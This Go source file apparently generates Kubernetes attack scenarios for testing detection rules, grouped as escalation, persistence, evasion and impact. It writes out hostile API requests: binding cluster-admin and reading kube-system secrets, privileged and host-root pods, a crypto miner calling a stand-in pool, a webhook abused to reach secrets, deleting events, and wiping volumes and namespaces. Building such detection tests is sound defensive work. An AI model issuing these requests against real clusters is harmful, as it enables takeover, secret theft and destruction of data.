package record

import (
	"context"
	"fmt"
)

const (
	clusterRoles    = "/apis/rbac.authorization.k8s.io/v1/clusterroles"
	clusterBindings = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
)

// clusterRole makes a role with one rule.
func clusterRole(name, groups, resources, verbs string) string {
	return fmt.Sprintf(`POST %s {"metadata":{"name":%q},"rules":[{"apiGroups":[%s],"resources":[%s],"verbs":[%s]}]}`, clusterRoles, name, groups, resources, verbs)
}

// bind binds a cluster role to a subject.
func bind(name, role, subject string) string {
	return fmt.Sprintf(`POST %s {"metadata":{"name":%q},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":%q},"subjects":[%s]}`, clusterBindings, name, role, subject)
}

// pod makes a pod of the shop.
func pod(name, spec string) string {
	return fmt.Sprintf(`POST /api/v1/namespaces/shop/pods {"metadata":{"name":%q},"spec":%s}`, name, spec)
}

func escalation() []Act {
	const cartAccount = `{"kind":"ServiceAccount","name":"cart","namespace":"shop"}`
	const box = `"image":"docker.io/library/busybox:1"`
	return []Act{
		{Name: "own certificate", By: "pat", Rules: rules("certificate-self-approved", "certificate-approved", "client-certificate-requested", "certificate-identity-used"), do: newIdentity},
		{Name: "binding used at once", By: "pat", Rules: rules("cluster-admin-bound", "binding-used-at-once"), do: func(ctx context.Context, s *Stage) error {
			if err := s.calls(ctx, stolen, bind("cart-admin", "cluster-admin", cartAccount)); err != nil {
				return err
			}
			return eventually(ctx, func() error { return s.calls(ctx, cart, "GET /api/v1/namespaces/kube-system/secrets") })
		}},
		plain("role with wildcards", stolen, rules("wildcard-role"), clusterRole("helper-all", `"*"`, `"*"`, `"*"`)),
		plain("role that escalates", stolen, rules("role-escalates"), clusterRole("helper-bind", `"rbac.authorization.k8s.io"`, `"clusterroles"`, `"bind","escalate"`), clusterRole("helper-as", `""`, `"users","groups"`, `"impersonate"`)),
		plain("role that leads further", stolen, rules("role-leads-further"), clusterRole("helper-exec", `""`, `"pods/exec"`, `"create"`), clusterRole("helper-token", `""`, `"serviceaccounts/token"`, `"create"`)),
		plain("rights for nobody", stolen, rules("anonymous-granted"), bind("open", "view", `{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}`), "DELETE "+clusterBindings+"/open"),
		plain("rights for everybody", stolen, rules("everybody-bound"), bind("all", "view", `{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:authenticated"}`), "DELETE "+clusterBindings+"/all"),
		plain("privileged pod", stolen, rules("privileged-pod"), pod("x1", `{"containers":[{"name":"a",`+box+`,"securityContext":{"privileged":true}}]}`)),
		plain("root of the node mounted", stolen, rules("sensitive-host-path"), pod("x2", `{"containers":[{"name":"a",`+box+`,"volumeMounts":[{"name":"h","mountPath":"/h"}]}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}`)),
		plain("namespaces of the node", stolen, rules("host-namespaces"), pod("x3", `{"hostPID":true,"hostNetwork":true,"containers":[{"name":"a",`+box+`}]}`)),
		plain("dangerous capability", stolen, rules("dangerous-capabilities"), pod("x4", `{"containers":[{"name":"a",`+box+`,"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}]}`)),
		plain("on the control plane", stolen, rules("on-control-plane", "node-chosen"), pod("x5", `{"nodeName":"control-plane","tolerations":[{"key":"node-role.kubernetes.io/control-plane","operator":"Exists"}],"containers":[{"name":"a",`+box+`}]}`)),
		plain("image of a stranger", mallory, rules("untrusted-image"), pod("x6", `{"containers":[{"name":"a","image":"198.51.100.9:5000/tools:latest"}]}`)),
		plain("miner", mallory, rules("miner-started"), pod("x7", `{"containers":[{"name":"a","image":"docker.io/shop/xmrig:6","args":["-o","stratum+tcp://pool.example:3333"]}]}`)),
	}
}

func persistence() []Act {
	const box = `"containers":[{"name":"a","image":"docker.io/library/busybox:1"}]`
	return []Act{
		plain("cron job", mallory, rules("scheduled-job-changed"), `POST /apis/batch/v1/namespaces/shop/cronjobs {"metadata":{"name":"sync"},"spec":{"schedule":"*/5 * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never",`+box+`}}}}}}`),
		plain("on every node of kube-system", stolen, rules("on-every-node", "pod-in-system-namespace"), `POST /apis/apps/v1/namespaces/kube-system/daemonsets {"metadata":{"name":"proxy2"},"spec":{"selector":{"matchLabels":{"app":"p"}},"template":{"metadata":{"labels":{"app":"p"}},"spec":{`+box+`}}}}`),
		plain("sidecar", mallory, rules("sidecar-injected"), `PATCH /apis/apps/v1/namespaces/shop/deployments/mail {"spec":{"template":{"spec":{"containers":[{"name":"b","image":"docker.io/library/busybox:1"}]}}}}`),
		plain("account in kube-system", stolen, rules("service-account-in-system-namespace"), `POST /api/v1/namespaces/kube-system/serviceaccounts {"metadata":{"name":"helper"}}`),
		plain("token that lasts", stolen, rules("lasting-token-filled"), `POST /api/v1/namespaces/kube-system/secrets {"metadata":{"name":"helper-token","annotations":{"kubernetes.io/service-account.name":"helper"}},"type":"kubernetes.io/service-account-token"}`),
		{Name: "webhook, then secrets", By: "pat", Rules: rules("admission-webhook-changed", "webhook-then-secrets"), do: func(ctx context.Context, s *Stage) error {
			return s.calls(ctx, stolen,
				`POST /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations {"metadata":{"name":"helper"},"webhooks":[{"name":"helper.example.com","failurePolicy":"Ignore","timeoutSeconds":1,"sideEffects":"None","admissionReviewVersions":["v1"],"clientConfig":{"url":"https://127.0.0.1:1/x"},"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"],"scope":"Namespaced"}],"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"monitoring"}}}]}`,
				"GET /api/v1/namespaces/till/secrets/db",
				"DELETE /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/helper")
		}},
		plain("reachable from outside", mallory, rules("node-port", "external-address-taken"),
			`POST /api/v1/namespaces/shop/services {"metadata":{"name":"y1"},"spec":{"type":"NodePort","selector":{"app":"web"},"ports":[{"port":80}]}}`,
			`POST /api/v1/namespaces/shop/services {"metadata":{"name":"y2"},"spec":{"externalIPs":["198.51.100.77"],"selector":{"app":"web"},"ports":[{"port":80}]}}`),
	}
}

func evasion() []Act {
	return []Act{
		plain("events wiped", stolen, rules("events-deleted"), each("DELETE /api/v1/namespaces/%s/events", "shop", "till", "legacy")...),
		plain("pod security loosened", stolen, rules("pod-security-loosened"), `PATCH /api/v1/namespaces/shop {"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`),
		plain("network policy removed", stolen, rules("isolation-changed"),
			`POST /apis/networking.k8s.io/v1/namespaces/shop/networkpolicies {"metadata":{"name":"deny"},"spec":{"podSelector":{},"policyTypes":["Ingress"]}}`,
			"DELETE /apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/deny"),
		plain("configuration of the cluster", stolen, rules("cluster-configuration-changed"), `POST /api/v1/namespaces/kube-system/configmaps {"metadata":{"name":"coredns"},"data":{"Corefile":"."}}`),
	}
}

func impact() []Act {
	var made, gone []string
	for _, n := range numbers(8) {
		made = append(made, fmt.Sprintf(`POST /api/v1/namespaces/till/persistentvolumeclaims {"metadata":{"name":"d%s"},"spec":{"accessModes":["ReadWriteOnce"],"resources":{"requests":{"storage":"1Gi"}}}}`, n))
		gone = append(gone, "DELETE /api/v1/namespaces/till/persistentvolumeclaims/d"+n)
	}
	return []Act{
		plain("API flooded with lists", stolen, rules("list-flood"), each("GET /api/v1/pods?x=%s", numbers(400)...)...),
		plain("volumes deleted", stolen, rules("volumes-wiped"), append(made, gone...)...),
		plain("workloads deleted", stolen, rules("workloads-wiped", "workload-deleted", "objects-wiped"), join(
			each("DELETE /apis/apps/v1/namespaces/legacy/deployments/%s", "a", "b", "c", "d", "e", "f"),
			[]string{"DELETE /api/v1/namespaces/legacy/pods", "DELETE /api/v1/namespaces/legacy/configmaps"})...),
		plain("namespaces deleted", stolen, rules("namespace-deleted", "namespaces-wiped"), each("DELETE /api/v1/namespaces/%s", "legacy", "lab", "demo")...),
	}
}
